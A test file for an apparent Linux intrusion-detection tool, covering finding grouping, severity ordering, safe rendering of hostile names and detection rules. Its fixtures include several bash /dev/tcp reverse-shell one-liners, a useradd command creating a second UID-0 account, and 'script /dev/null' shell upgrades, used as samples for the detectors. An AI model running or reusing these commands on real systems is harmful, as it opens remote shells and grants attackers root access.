import { describe, expect, test } from "bun:test";
import { blindRules } from "./coverage.ts";
import { hasAtLeast } from "./findings.ts";
import { findingsData } from "./findings-json.ts";
import { findingsList, findingText } from "./findings-text.ts";
import { rules } from "./rules.ts";
import { Story } from "./testdata/story.ts";

const layout = { columns: 80, colour: false, limit: 20 };
const none = new Map();

test("the same by the same program is one finding, with its first and last time", () => {
  const story = new Story();
  for (const pid of [9, 10, 11]) story.runs(pid, ["/dev/shm/x"]);
  const [finding, ...others] = story.runs(12, ["/dev/shm/y"]).found();
  expect(others.map(({ subject }) => subject)).toEqual(["/dev/shm/y"]);
  expect(finding).toMatchObject({
    count: 3,
    subject: "/dev/shm/x",
    process: { pid: 9, program: "/dev/shm/x", argv: ["/dev/shm/x"] },
    point: "process.exec",
  });
  expect((finding?.last ?? 0) - (finding?.first ?? 0)).toBe(2000);
});

test("the most serious come first", () => {
  const found = new Story()
    .runs(9, ["/tmp/x"])
    .runs(10, ["/dev/shm/x"])
    .runs(11, ["/usr/sbin/useradd", "-o", "-u", "0", "toor"])
    .found();
  const severities = found.map(({ severity }) => severity);
  expect([...new Set(severities)]).toEqual(["critical", "high", "medium", "low"]);
  expect(hasAtLeast({ findings: found, more: none }, "critical")).toBe(true);
  expect(hasAtLeast({ findings: found.slice(1), more: none }, "critical")).toBe(false);
});

test("who floods one rule buries no other, and what is not kept is counted", () => {
  const story = new Story();
  for (let i = 0; i < 300; i++) story.runs(100 + i, [`/tmp/${i}`]);
  const found = story.runs(9, ["/dev/shm/x"]).found();
  expect(found[0]?.rule.id).toBe("exec-shared-memory");
  expect(found.filter(({ rule }) => rule.id === "exec-temporary")).toHaveLength(200);
  const low = rules.find(({ id }) => id === "exec-temporary");
  const text = findingsList({ findings: found, more: new Map(low && [[low, 100]]) }, [], layout);
  expect(text).toContain("… and 197 more");
  expect(text).toContain("100 more events of rules that found too much.");
});

describe("what makes a finding low", () => {
  const written = { path: "/etc/cron.d/x" };
  const severityOf = (story: Story) => story.does(9, "file.written", written).found()[0]?.severity;

  test("a package manager, however far above", () => {
    const story = new Story().was(3, "/usr/bin/apt-get").was(4, "/usr/bin/dpkg", { ppid: 3 });
    story.was(5, "/bin/sh", { ppid: 4 });
    expect(severityOf(story.runs(9, ["/bin/cp"], { ppid: 5 }))).toBe("low");
  });

  test("not a program that only has its name", () => {
    const story = new Story().was(5, "/home/u/dpkg");
    expect(severityOf(story.runs(9, ["/bin/cp"], { ppid: 5 }))).toBe("high");
    expect(severityOf(new Story().runs(9, ["dpkg"], { path: "/bin/cp" }))).toBe("high");
  });

  test("not one that is younger than its child: its number was used again", () => {
    const story = new Story().runs(9, ["/bin/cp"], { ppid: 5 });
    story.runs(5, ["/usr/bin/dpkg"], { start: 5000 });
    expect(severityOf(story)).toBe("high");
  });

  test("a script of the system, but not one from elsewhere", () => {
    const script = (path: string) =>
      new Story()
        .was(5, "/usr/bin/python3.11", { argv: ["python3", "-u", path] })
        .runs(9, ["/bin/cp"], { ppid: 5 });
    expect(severityOf(script("/usr/bin/unattended-upgrade"))).toBe("low");
    expect(severityOf(script("/tmp/unattended-upgrade"))).toBe("high");
  });
});

test("processes that are their own ancestors", () => {
  const story = new Story()
    .was(5, "/bin/a", { ppid: 6, start: 0 })
    .was(6, "/bin/b", { ppid: 5, start: 0 });
  const [finding] = story.runs(9, ["/dev/shm/x"], { ppid: 5 }).found();
  expect(finding?.ancestors.map(({ pid }) => pid)).toEqual([5, 6]);
});

test("names are made visible, bytes kept, and long command lines cut", () => {
  const evil = "/dev/shm/\x1b]0;x\x07\u202e\n";
  const found = new Story()
    .runs(9, [evil, "a".repeat(5000)], { path: evil })
    .runs(10, ["/bin/rm"], { path: Uint8Array.of(...Buffer.from("/dev/shm/"), 0xff) })
    .found();
  const offset = 0n;
  const detail = found.map((each) => findingText(each, { ...layout, offset })).join("");
  const list = findingsList({ findings: found, more: none }, [], layout);
  for (const text of [detail, list]) {
    expect(text).not.toMatch(/[^\P{C}\n]/u);
    expect(text).toContain("\\x1b]0;x");
    expect(text).toContain("\\xff");
    for (const line of text.split("\n")) expect(Bun.stringWidth(line)).toBeLessThanOrEqual(80);
  }
  expect(
    Bun.stripANSI(findingsList({ findings: found, more: none }, [], { ...layout, colour: true })),
  ).toBe(list);
  expect(detail).not.toContain("a".repeat(1100));
});

test("a path that is no UTF-8 is told as it was, also by rules that look at its plain form", () => {
  const path = Buffer.concat([Buffer.from("/dev/../tmp/水"), Buffer.of(0xff)]);
  const found = new Story()
    .does(9, "file.chmod", { path, mode: 0o755, old_mode: 0o644 })
    .does(9, "file.chmod", { path: "/tmp/水", mode: 0o755, old_mode: 0o644 })
    .found();
  const subjects = found.map(({ subject }) => subject);
  expect(subjects).toEqual([Buffer.concat([Buffer.from("/tmp/水"), Buffer.of(0xff)]), "/tmp/水"]);
});

test("rules that could not look", () => {
  const all = new Set(
    rules.flatMap((rule) => ("access" in rule ? ["file.open", "file.unlink"] : rule.on)),
  );
  expect(blindRules(rules, all)).toEqual([]);
  const ids = (points: string[]) => blindRules(rules, new Set(points)).map(({ rule }) => rule.id);
  expect(ids(["file.written"])).not.toContain("write-cron");
  expect(ids(["file.unlink"])).toContain("write-cron");
  // It remembers accepted connections: one of its two points is not enough.
  expect(ids(["process.exec"])).toContain("shell-after-accept");
  expect(ids(["process.exec"])).not.toContain("exec-as-kernel-thread");
});

test("as data: all that a reader needs, and no patterns", () => {
  const found = new Story().runs(9, ["/dev/shm/x"]).found();
  const data = findingsData({ findings: found, more: none }, []);
  expect(data).toMatchObject({
    rows: expect.arrayContaining([
      expect.objectContaining({
        id: "exec-shared-memory",
        technique: "T1036.005",
        severity: "high",
        count: 1,
      }),
    ]),
    notLooked: [],
  });
  expect(JSON.stringify(data)).not.toContain('"match"');
});

describe("a shell and /dev/tcp", () => {
  const handed = (line: string) =>
    new Story()
      .runs(9, ["/bin/bash", "-c", line])
      .found()
      .some(({ rule }) => rule.id === "reverse-shell-command");

  test.each([
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196 >&196 2>&196",
    "/bin/sh </dev/tcp/203.0.113.9/4444 >&0 2>&0",
    "exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
    "exec 3<>/dev/tcp/203.0.113.9/4444; exec 0<&3 1>&3; bash",
    "exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 | bash",
    "exec </dev/tcp/203.0.113.9/80; sh",
  ])("is handed over: %s", (line) => expect(handed(line)).toBe(true));

  test.each([
    "exec 3<>/dev/tcp/127.0.0.1/9",
    "timeout 1 bash -c '</dev/tcp/db/5432'",
    "until (echo > /dev/tcp/10.0.0.5/3306) >/dev/null 2>&1; do sleep 1; done",
    "exec 3<>/dev/tcp/10.0.0.5/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
  ])("only talks: %s", (line) => expect(handed(line)).toBe(false));
});

test.each([
  [["/dev/null"], true],
  [["-qc", "/bin/bash", "/dev/null"], true],
  [["-c", "bash -i", "/dev/null"], true],
  [["-qec", "make check", "/dev/null"], false],
  [["log.txt"], false],
])("script %p: a terminal for a shell, and no log: %p", (words, isUpgrade) => {
  const story = new Story().runs(9, ["/usr/bin/script", ...words]);
  expect(story.found().some(({ rule }) => rule.id === "tty-upgrade")).toBe(isUpgrade);
});
